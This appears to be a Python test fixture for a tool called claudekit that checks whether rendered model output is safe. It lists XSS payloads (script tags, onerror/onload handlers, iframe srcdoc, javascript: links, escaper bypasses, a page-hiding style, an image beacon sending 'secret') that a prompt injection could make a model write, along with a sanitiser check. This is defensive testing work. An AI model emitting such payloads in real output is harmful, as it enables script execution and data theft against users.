"""Hostile model output (issue 21): payloads a prompt injection can make the model write, and a checker
for the HTML claudekit emits from them.

Every payload that runs sets ``top.__ckx`` (a browser test reads it); every payload has a marker, the
text a reader must still see. The image beacon's host is ``{beacon}``, filled in by the test (a local
server in the browser test, which must count no hits).
"""

from __future__ import annotations

import re
from html import unescape
from html.parser import HTMLParser
from urllib.parse import urlsplit

# (name, Markdown the model writes, marker that stays visible)
PAYLOADS: list[tuple[str, str, str]] = [
    ("script", "<script>top.__ckx='script'</script>", "top.__ckx='script'"),
    ("img onerror", "<img src=x onerror=\"top.__ckx='img'\">", "top.__ckx='img'"),
    ("svg onload", "<svg onload=\"top.__ckx='svg'\"></svg>", "top.__ckx='svg'"),
    (
        "iframe srcdoc",
        "<iframe srcdoc=\"<script>top.__ckx='iframe'</script>\"></iframe>",
        "top.__ckx='iframe'",
    ),
    (
        "details ontoggle",
        "<details open ontoggle=\"top.__ckx='details'\"><summary>open me</summary>x</details>",
        "top.__ckx='details'",
    ),
    ("style", "<style>body, .jp-LabShell { display: none !important }</style>", "display: none"),
    ("javascript link", "[click me](javascript:top.__ckx='jslink')", "javascript:top.__ckx='jslink'"),
    (
        "javascript reference link",
        "[click ref][r1]\n\n[r1]: javascript:top.__ckx='jsref'",
        "javascript:top.__ckx='jsref'",
    ),
    ("javascript autolink", "<javascript:top.__ckx='jsauto'>", "javascript:top.__ckx='jsauto'"),
    # The four escaper bypasses of issue 21.
    ("escaped backtick", "a \\`<img src=x onerror=\"top.__ckx='bt1'\">\\` b", "top.__ckx='bt1'"),
    ("backtick run", "``<img src=x onerror=\"top.__ckx='bt2'\">`", "top.__ckx='bt2'"),
    (
        "indented line in a list item",
        "- item\n\n      <img src=x onerror=\"top.__ckx='indent'\">",
        "top.__ckx='indent'",
    ),
    ("image beacon", "![chart](http://{beacon}/beacon.png?d=secret)", "image from"),
    # Not a payload: what must still render (and sit where the saved copy puts it).
    ("table", "| city | <b onmouseover=x>°C</b> |\n|---|--:|\n| Paris | 21 |", "<b onmouseover=x>°C</b>"),
    # Last: its closing fence opens a code block that runs to the end of the answer.
    (
        "fence in a list item",
        "- item\n\n  ```\n<img src=x onerror=\"top.__ckx='fence'\">\n  ```",
        "top.__ckx='fence'",
    ),
]

# A short one for where text is cut (tool names, summaries): it must not run either.
SHORT = "<img src=x onerror=\"top.__ckx='short'\">"


def corpus(beacon: str = "beacon.invalid") -> str:
    """Every payload, as one Markdown answer."""
    return "\n\n".join(md.replace("{beacon}", beacon) for _, md, _ in PAYLOADS) + "\n\nend of payloads"


ALLOWED_TAGS = {
    "a", "b", "blockquote", "br", "code", "del", "details", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6",
    "hr", "i", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "summary", "sup", "table", "tbody",
    "td", "th", "thead", "tr", "ul", "img",
}  # fmt: skip


_VOID = {"br", "hr", "img", "input", "meta", "link", "source", "wbr", "col", "area", "base", "embed"}


class _Scan(HTMLParser):
    """Problems and text, of the whole page or only inside elements whose class has ``within``."""

    def __init__(self, within: str | None = None) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []
        self.within = within
        self.depth = 0 if within else 1  # > 0: inside a scanned element

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if self.depth == 0:
            if self.within and self.within in (dict(attrs).get("class") or "").split():
                self.depth = 1
            return
        if self.within and tag not in _VOID:
            self.depth += 1
        self._check(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if self.within and self.depth > 0 and tag not in _VOID:
            self.depth -= 1

    def _check(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name in ("srcdoc", "formaction"):
                self.problems.append(f"<{tag} {name}>")
            if name == "href" and urlsplit(value.strip()).scheme.lower() not in ("http", "https", "mailto"):
                self.problems.append(f"<{tag} href={value!r}>")
            if name == "src" and not value.lower().startswith("data:image/"):
                self.problems.append(f"<{tag} src={value!r}> loads from the network")
            if name == "style" and re.search(r"display|position|visibility|url\(", value, re.I):
                self.problems.append(f"<{tag} style={value!r}>")

    def handle_data(self, data: str) -> None:
        if self.depth > 0:
            self.text.append(data)


def _scan(page: str, within: str | None) -> _Scan:
    scan = _Scan(within)
    scan.feed(page)
    scan.close()
    return scan


def html_problems(page: str, within: str | None = None) -> list[str]:
    """What in ``page`` (or its elements of class ``within``) could run, load or hide something."""
    return _scan(page, within).problems


def visible_text(page: str, within: str | None = None) -> str:
    """The text a reader sees in ``page``, whitespace collapsed."""
    return " ".join(unescape("".join(_scan(page, within).text)).split())


def missing_markers(page: str, markers: list[str] | None = None, within: str | None = None) -> list[str]:
    """The payload markers a reader of ``page`` could not see."""
    seen = visible_text(page, within)
    wanted = markers if markers is not None else [m for _, _, m in PAYLOADS]
    return [m for m in wanted if " ".join(m.split()) not in seen]


def notebook_setup(beacon: str) -> str:
    """The first cell of a notebook whose %%claude cells make the offline model write the corpus."""
    return f"""\
import os
os.environ.pop("CLAUDEKIT_RENDER", None)
%load_ext claudekit.notebook
import claudekit, claudekit.notebook as nb
from claudekit.offline import Fault, OfflineBackend, Script, ToolCall, Turn
from tests.payloads import corpus
TEXT = corpus({beacon!r})

def echo(q: str) -> str:
    \"\"\"Give back what it was sent.\"\"\"
    return q

_ = nb.use_chat(claudekit.Chat(offline=OfflineBackend(responder=Script([
    Turn(text=TEXT, thinking=TEXT, tool_calls=[ToolCall("echo", {{"q": TEXT}})]),
    Turn(text=TEXT),
    Turn(text=TEXT, fault=Fault.error_event(after_events=3, message=TEXT)),
])), tools=[claudekit.tool(echo)], thinking=2048))
"""


NOTEBOOK_CELLS = [
    "%%claude\nSummarise the document in {TEXT}",  # the user's prompt carries the payloads too
    "_claude",  # the Reply's repr
    "%claude history",
    "%%claude\nAnd again?",  # this answer ends in an error whose message is the corpus
]
